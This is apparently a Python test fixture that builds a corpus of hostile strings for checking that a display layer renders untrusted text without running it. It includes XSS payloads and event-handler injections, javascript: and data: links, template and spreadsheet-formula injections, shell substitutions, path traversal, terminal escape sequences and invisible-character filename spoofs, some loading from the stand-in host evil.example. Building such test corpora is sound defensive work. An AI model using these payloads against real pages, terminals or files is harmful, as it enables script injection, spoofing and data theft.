"""Texts that must be shown and never obeyed: what a model, a tool, a file or a stranger may bring to the page."""

from __future__ import annotations

from itertools import product

from hermes_worker.core.invisible_characters import show_invisible

_OWNED = "document.title='owned'"
_HANDLERS = ("onload", "onerror", "onfocus autofocus", "onmouseover", "ontoggle", "onanimationstart", "onbegin")
_TAGS = (
    "img src=x",
    "svg",
    "body",
    "iframe srcdoc=x",
    "input",
    "details open",
    "video src=x",
    "audio src=x",
    "object data=x",
    "marquee",
    "select",
    "textarea",
    "math",
    "style",
    "animate attributeName=x",
    "a href=#",
    "custom-element",
)
_SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java\nscript:",
    " javascript:",
    "&#106;avascript:",
    "vbscript:",
    "data:text/html,",
    "data:text/html;base64,",
    "data:image/svg+xml,",
    "blob:https://evil.example/",
    "file:///",
    "//evil.example/",
    "https://evil.example/",
)
_LINKS = (
    "[click]({}x)",
    "![seen]({}x)",
    "<{}x>",
    "[a]: {}x",
    '<a href="{}x">x</a>',
    '<form action="{}x"><button>x</button></form>',
)
_ELEMENTS = (
    f"<script>{_OWNED}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    f"<scr<script>ipt>{_OWNED}</scr</script>ipt>",
    "<iframe src=https://evil.example></iframe>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<object data=https://evil.example></object>",
    "<embed src=https://evil.example>",
    "<template><script>1</script></template>",
    "<svg><script>1</script></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x/>#x'></svg>",
    "<svg><foreignObject><iframe src=//evil.example></iframe></foreignObject></svg>",
    "<math><mtext></form><mglyph><style></math><img src onerror=alert(1)>",
    "<style>*{background:url(//evil.example)}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><x/>",
    "<dialog open>log in again</dialog>",
    "<portal src=//evil.example>",
    "<img src=//evil.example/pixel.gif>",
    "<img srcset='//evil.example/1x 1x'>",
    "<input type=image src=//evil.example>",
    "<video poster=//evil.example/x>",
)
_ESCAPES = (
    '"><b>x</b>',
    "'><b>x</b>",
    "--><b>x</b>",
    "</textarea><b>x</b>",
    "</title><b>x</b>",
    "</script><b>x</b>",
    "]]><b>x</b>",
    "${html`<b>x</b>`}",
    "{{7*7}}",
    "{{constructor.constructor('alert(1)')()}}",
    "#{7*7}",
    "<%= 7*7 %>",
    "$(id)",
    "`id`",
    "\\u003cb\\u003e",
    "&lt;b&gt;x&lt;/b&gt;",
    "&#x3c;b&#x3e;",
    "%3Cb%3E",
    "+ADw-b+AD4-",
    "\\x3cb\\x3e",
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "[object Object]",
    "null",
    "undefined",
    "NaN",
    "-1",
    "1e999",
    "true",
    "{}",
    "[]",
    '{"__proto__":{"x":1}}',
    '{"type":"b","props":{"children":"x"},"constructor":null}',
    "dangerouslySetInnerHTML",
    "onclick=alert(1)",
    "style=position:fixed;inset:0",
    "class=danger",
    "id=key name=key",
    "=cmd|'/c calc'!A1",
    "@SUM(1+1)",
    ">>>marked<<<",
    ">>>half",
    "<<<>>>",
    "#/inbox",
    "?status=failed",
    "../../v1/keys",
    "%2e%2e%2f",
    "a\x0bb",
    "a\x0cb",
)
_ANSI = (
    "\x1b[31mred\x1b[0m",
    "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "\x1b]0;owned\x07",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x1b[2J\x1b[H",
    "\x1b[8mhidden\x1b[28m",
    "\x1bP+q544e\x1b\\",
    "\x1b_payload\x1b\\",
    "\x1b[?1049h",
    "\x1b[6n",
    "\x9b31mred",
    "\x1bc",
    "\x1b(0lqqk",
    "\x07\x07\x07",
    "\x08\x08\x08erased",
    "over\rwritten",
    "\x7f\x7f",
    "\x1b[38;2;255;255;255mwhite",
)
_MARKS = (
    "\u061c",
    "\u00ad",
    "\u180e",
    "\u200b",
    "\u200c",
    "\u200d",
    "\u200e",
    "\u200f",
    "\u2028",
    "\u2029",
    "\u202a",
    "\u202b",
    "\u202c",
    "\u202d",
    "\u202e",
    "\u2060",
    "\u2061",
    "\u2066",
    "\u2067",
    "\u2068",
    "\u2069",
    "\u206a",
    "\ufeff",
    "\u3164",
    "\ufff9",
    "\U000e0041",
    "\U000e0100",
)


def hostile_texts() -> list[str]:
    """More than 300, each another, each short enough to be shown whole in a line of a table."""
    found = [f'<{tag} {handler}="{_OWNED}">' for tag, handler in product(_TAGS, _HANDLERS)]
    found += [link.format(scheme) for link, scheme in product(_LINKS, _SCHEMES)]
    found += [*_ELEMENTS, *_ESCAPES, *_ANSI]
    found += [f"exe{mark}gnp.txt" for mark in _MARKS]
    # What a look could take for the neighbour's: the number tells them apart.
    return [f"{text} #{number}" for number, text in enumerate(found)]


LONG = ("w" * 999_000, "\u05d0" * 200_000, "a b " * 50_000)


def as_shown(text: str) -> str:
    """What a person sees of it, without the spaces, which a browser joins."""
    return "".join(show_invisible(text).split())
